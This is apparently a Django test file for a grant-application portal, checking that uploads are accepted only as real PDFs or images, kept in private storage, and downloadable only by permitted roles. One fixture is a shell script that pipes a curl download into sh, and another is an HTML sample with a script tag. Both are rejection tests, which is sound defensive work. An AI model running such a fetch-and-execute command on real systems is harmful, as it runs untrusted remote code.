"""Attachments: PDF or image by content (never by name or the browser's word), 10 MB at most,
kept in the private storage and served only to whoever may read the application."""

import io
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from funds.models import ApplicationStatus, Attachment, AttachmentKind
from funds.services.applying import MAX_UPLOAD_SIZE
from privacy.models import AccessLogEntry
from tests.factories.funds import (
    ApplicationFactory,
    application_in,
    assign,
    fund_manager,
    reviewer,
)
from tests.factories.portal import UserFactory

pytestmark = pytest.mark.django_db


PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 64
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 64
WEBP = b"RIFF\x24\x00\x00\x00WEBPVP8 " + b"\x00" * 64
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 200
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid | sh\n"
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
ZIP = b"PK\x03\x04\x14\x00\x00\x00" + b"\x00" * 64
NOT_A_PDF = "This file is not a PDF or an image (JPEG, PNG or WebP), whatever its name says."


def url(name, *args):
    return reverse(f"funds:{name}", args=args)


@pytest.fixture
def applicant():
    return UserFactory()


@pytest.fixture
def client_en(client, applicant):
    client.cookies["django_language"] = "en"
    client.force_login(applicant)
    return client


@pytest.fixture
def draft(applicant):
    return ApplicationFactory(applicant=applicant)


def upload(client, application, name, content, content_type="application/pdf", kind="plan"):
    file = SimpleUploadedFile(name, content, content_type=content_type)
    return client.post(url("application_attachments", application.pk), {"kind": kind, "file": file})


@pytest.mark.parametrize(
    ("name", "content", "content_type", "download_name"),
    [
        ("projectplan.pdf", PDF, "application/pdf", "projectplan.pdf"),
        ("foto.png", PNG, "image/png", "foto.png"),
        ("foto.jpeg", JPEG, "image/jpeg", "foto.jpeg"),
        ("foto.webp", WEBP, "image/webp", "foto.webp"),
        # Named .pdf but really a PNG: stored and served as what it is.
        ("scan.pdf", PNG, "image/png", "scan.png"),
        # No extension at all: recognised by its content.
        ("offerte", PDF, "application/pdf", "offerte.pdf"),
    ],
)
def test_pdfs_and_images_are_accepted_by_their_content(
    client_en, draft, name, content, content_type, download_name
):
    response = upload(client_en, draft, name, content, content_type="application/octet-stream")
    assert response.status_code == 302
    attachment = Attachment.objects.get(application=draft)
    assert (attachment.original_name, attachment.content_type, attachment.size) == (
        name, content_type, len(content))  # fmt: skip
    download = client_en.get(url("attachment", draft.pk, attachment.pk))
    assert download.status_code == 200
    assert b"".join(download.streaming_content) == content
    assert download["Content-Type"] == content_type
    assert download["Content-Disposition"] == f'attachment; filename="{download_name}"'


@pytest.mark.parametrize(
    ("name", "content"),
    [("x.pdf", EXE), ("x.pdf", SCRIPT), ("x.pdf", HTML), ("x.pdf", ZIP), ("setup.exe", EXE),
     ("foto.png", b"not really a png")],
    ids=["exe renamed to .pdf", "shell script", "html", "zip", "exe", "text named .png"],
)  # fmt: skip
def test_anything_else_is_refused_whatever_its_name_or_stated_type(client_en, draft, name, content):
    # The browser claims it is a PDF; the content decides.
    response = upload(client_en, draft, name, content, content_type="application/pdf")
    page = response.content.decode()
    assert response.status_code == 200
    assert NOT_A_PDF in page
    assert not Attachment.objects.exists()


def test_the_size_limit_is_10_mb(client_en, draft):
    assert MAX_UPLOAD_SIZE == 10 * 1024 * 1024
    at_limit = PDF + b"0" * (MAX_UPLOAD_SIZE - len(PDF))
    assert upload(client_en, draft, "groot.pdf", at_limit).status_code == 302
    over = at_limit + b"0"
    response = upload(client_en, draft, "te-groot.pdf", over)
    assert "This file is larger than 10.0" in response.content.decode()
    assert list(Attachment.objects.values_list("original_name", flat=True)) == ["groot.pdf"]


def test_an_empty_file_or_no_file_is_refused(client_en, draft):
    response = upload(client_en, draft, "leeg.pdf", b"")
    assert "This file is empty. Choose the file again." in response.content.decode()
    response = client_en.post(url("application_attachments", draft.pk), {"kind": "plan"})
    assert "Choose a file to upload." in response.content.decode()
    assert not Attachment.objects.exists()


def test_files_are_kept_in_the_private_storage_not_under_media(client_en, draft, tmp_path):
    upload(client_en, draft, "plan.pdf", PDF)
    attachment = Attachment.objects.get()
    path = Path(attachment.file.path)
    assert path.is_relative_to(tmp_path / "private")
    assert not path.is_relative_to(Path(settings.MEDIA_ROOT))
    assert path.read_bytes() == PDF
    assert "plan" not in path.name  # stored under a name of our own
    page = client_en.get(url("application_attachments", draft.pk)).content.decode()
    assert url("attachment", draft.pk, attachment.pk) in page
    assert settings.MEDIA_URL not in page


def test_removing_an_attachment_from_a_draft(client_en, draft):
    upload(client_en, draft, "plan.pdf", PDF)
    attachment = Attachment.objects.get()
    path = Path(attachment.file.path)
    response = client_en.post(url("attachment_delete", draft.pk, attachment.pk), follow=True)
    assert "“plan.pdf” has been removed." in response.content.decode()
    assert not Attachment.objects.exists()
    assert not path.exists()


def test_removing_is_refused_after_submitting(client_en, applicant):
    application = application_in(ApplicationStatus.SUBMITTED, applicant=applicant)
    attachment = Attachment.objects.create(
        application=application,
        kind=AttachmentKind.PLAN,
        file=SimpleUploadedFile("plan.pdf", PDF),
        original_name="plan.pdf",
        content_type="application/pdf",
        size=len(PDF),
    )
    response = client_en.post(url("attachment_delete", application.pk, attachment.pk))
    assert response.status_code == 302
    assert Attachment.objects.filter(pk=attachment.pk).exists()


def test_removing_a_file_answer_clears_the_answer(client_en, applicant):
    from tests.factories.funds import RoundPageFactory

    round_page = RoundPageFactory(
        questions=[{"type": "file", "id": "q-poster", "value": {"label": "Poster"}}]
    )
    application = ApplicationFactory(applicant=applicant, round=round_page)
    poster = io.BytesIO(PNG)
    poster.name = "poster.png"
    client_en.post(url("application_questions", application.pk), {"q_q-poster": poster})
    application.refresh_from_db()
    assert application.answers["q-poster"]["value"] == "poster.png"
    attachment = Attachment.objects.get(question_id="q-poster")
    client_en.post(url("attachment_delete", application.pk, attachment.pk))
    application.refresh_from_db()
    assert "q-poster" not in application.answers


# --- Who may download ------------------------------------------------------------------------


def someone_else():
    return UserFactory()


def cleared_reviewer(application):
    return assign(application, reviewer(), has_conflict=False).reviewer


def conflicted_reviewer(application):
    return assign(application, reviewer(), has_conflict=True).reviewer


def undeclared_reviewer(application):
    return assign(application, reviewer(), has_conflict=None).reviewer


def reviewer_of_another(application):
    other = application_in(ApplicationStatus.IN_REVIEW)
    return assign(other, reviewer(), has_conflict=False).reviewer


DOWNLOADERS = [
    ("the applicant", lambda application: application.applicant, 200),
    ("another applicant", lambda application: someone_else(), 404),
    ("a fund manager", lambda application: fund_manager(), 200),
    ("a cleared reviewer", cleared_reviewer, 200),
    ("a reviewer with a conflict", conflicted_reviewer, 404),
    ("a reviewer who has not declared", undeclared_reviewer, 404),
    ("a reviewer of another application", reviewer_of_another, 404),
    ("nobody logged in", lambda application: None, 302),
]


@pytest.fixture
def submitted_with_file(applicant):
    application = application_in(ApplicationStatus.IN_REVIEW, applicant=applicant)
    attachment = Attachment.objects.create(
        application=application,
        kind=AttachmentKind.PLAN,
        file=SimpleUploadedFile("plan.pdf", PDF),
        original_name="plan.pdf",
        content_type="application/pdf",
        size=len(PDF),
    )
    return application, attachment


@pytest.mark.parametrize(("who", "person", "status"), DOWNLOADERS, ids=[d[0] for d in DOWNLOADERS])
def test_download_permissions(client, submitted_with_file, who, person, status):
    application, attachment = submitted_with_file
    user = person(application)
    if user is not None:
        client.force_login(user)
    response = client.get(url("attachment", application.pk, attachment.pk))
    assert response.status_code == status
    if status == 302:
        assert response["Location"].startswith("/account/login/")
    if status == 200:  # an applicant's file is never kept by a browser or proxy cache
        assert response["Cache-Control"] == "private, no-store"


def test_an_attachment_of_another_application_is_not_found_through_mine(client_en, draft):
    other = ApplicationFactory()
    attachment = Attachment.objects.create(
        application=other,
        kind=AttachmentKind.PLAN,
        file=SimpleUploadedFile("geheim.pdf", PDF),
        original_name="geheim.pdf",
        content_type="application/pdf",
        size=len(PDF),
    )
    assert client_en.get(url("attachment", draft.pk, attachment.pk)).status_code == 404
    assert client_en.post(url("attachment_delete", draft.pk, attachment.pk)).status_code == 404
    assert Attachment.objects.filter(pk=attachment.pk).exists()


def test_staff_and_reviewer_downloads_are_logged_the_applicants_own_are_not(
    client, submitted_with_file
):
    application, attachment = submitted_with_file
    client.force_login(application.applicant)
    client.get(url("attachment", application.pk, attachment.pk))
    assert not AccessLogEntry.objects.exists()
    for user in (fund_manager(), cleared_reviewer(application)):
        client.force_login(user)
        assert client.get(url("attachment", application.pk, attachment.pk)).status_code == 200
        entry = AccessLogEntry.objects.get(user=user)
        assert (entry.purpose, entry.object_id) == ("fonds-buurtcultuur", str(attachment.pk))
